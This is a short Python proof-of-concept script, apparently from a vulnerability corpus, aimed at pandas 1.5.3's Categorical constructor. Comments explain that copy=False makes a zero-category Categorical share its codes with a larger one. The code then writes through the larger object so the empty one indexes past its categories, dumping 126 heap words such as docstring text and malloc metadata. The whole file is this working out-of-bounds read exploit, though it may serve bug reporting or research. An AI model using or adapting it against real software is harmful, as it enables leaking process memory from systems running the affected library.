# source: pandas 1.5.3 pandas/core/arrays/categorical.py Categorical.__init__ -> recode_for_categories(codes, old, new, copy=copy): "if len(old_categories) == 0: ... if copy: return codes.copy(); return codes"
# family: copy=False categorical constructor shares the codes of a 0-category categorical; writes through the one with categories leave the 0-category one with codes past its categories (unchecked take: out-of-bounds heap read)
# goal: dumps 126 heap words (a pandas docstring and malloc metadata) through a 0-category Categorical whose codes were written 0..125 through big[:] = ...
import numpy as np
import pandas as pd

empty = pd.Categorical([None] * 126, categories=pd.Index([], dtype="int64"))
big = pd.Categorical(empty, categories=[f"x{i}" for i in range(126)], copy=False)
big[:] = [f"x{i}" for i in range(126)]
print(empty.codes[:5])
print([hex(v) for v in np.asarray(empty)])
